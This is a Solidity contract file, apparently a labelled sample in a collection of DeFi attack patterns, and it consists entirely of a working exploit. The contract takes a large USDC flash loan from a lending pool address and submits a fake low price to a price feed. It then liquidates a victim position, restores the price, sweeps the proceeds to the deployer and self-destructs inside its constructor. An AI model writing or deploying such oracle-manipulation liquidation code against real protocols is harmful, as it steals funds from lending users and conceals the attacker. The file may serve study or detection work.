// SPDX-License-Identifier: BSD-3-Clause
// provider: aave_v2
// family: liquidation
// contract: OneShot
// shows: entry callback address
// since: 0.6
// A constructor takes the loan itself for a child that it has just created; nothing is left behind.
pragma solidity >=0.6.0 <0.9.0;

interface ILendingPool {
	function flashLoan(address receiver, address[] calldata assets, uint256[] calldata amounts, uint256[] calldata modes, address onBehalfOf, bytes calldata params, uint16 referral) external;
	function liquidationCall(address collateral, address debt, address user, uint256 amount, bool receiveAToken) external;
}
interface IPriceFeed { function submit(uint80 round, int256 answer) external; }
interface IERC20Like { function balanceOf(address) external view returns (uint256); function transfer(address, uint256) external returns (bool); function approve(address, uint256) external returns (bool); }

contract Hand {
	address private immutable parent;
	constructor() public { parent = msg.sender; }

	function executeOperation(address[] calldata assets, uint256[] calldata amounts, uint256[] calldata premiums, address initiator, bytes calldata params) external returns (bool) {
		require(initiator == parent);
		(address feed, address user, address collateral) = abi.decode(params, (address, address, address));
		IPriceFeed(feed).submit(uint80(block.number), int256(1));
		IERC20Like(assets[0]).approve(msg.sender, type(uint256).max);
		ILendingPool(msg.sender).liquidationCall(collateral, assets[0], user, amounts[0], false);
		IPriceFeed(feed).submit(uint80(block.number + 1), int256(1e18));
		require(IERC20Like(assets[0]).balanceOf(address(this)) >= amounts[0] + premiums[0], "loss");
		return true;
	}

	function sweep(address token) external {
		require(msg.sender == parent);
		IERC20Like(token).transfer(tx.origin, IERC20Like(token).balanceOf(address(this)));
	}
}

contract OneShot {
	constructor() public {
		Hand hand = new Hand();
		address[] memory a = new address[](1);
		a[0] = 0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48;
		uint256[] memory n = new uint256[](1);
		n[0] = 25000000e6;
		ILendingPool(0x7d2768dE32b0b80b7a3454c06BdAc94A69DDc7A9).flashLoan(address(hand), a, n, new uint256[](1), address(this),
			abi.encode(address(0x2222000000000000000000000000000000002222), address(0x3333000000000000000000000000000000003333), address(0x4444000000000000000000000000000000004444)), 0);
		hand.sweep(a[0]);
		hand.sweep(0x4444000000000000000000000000000000004444);
		assembly { selfdestruct(origin()) }
	}
}
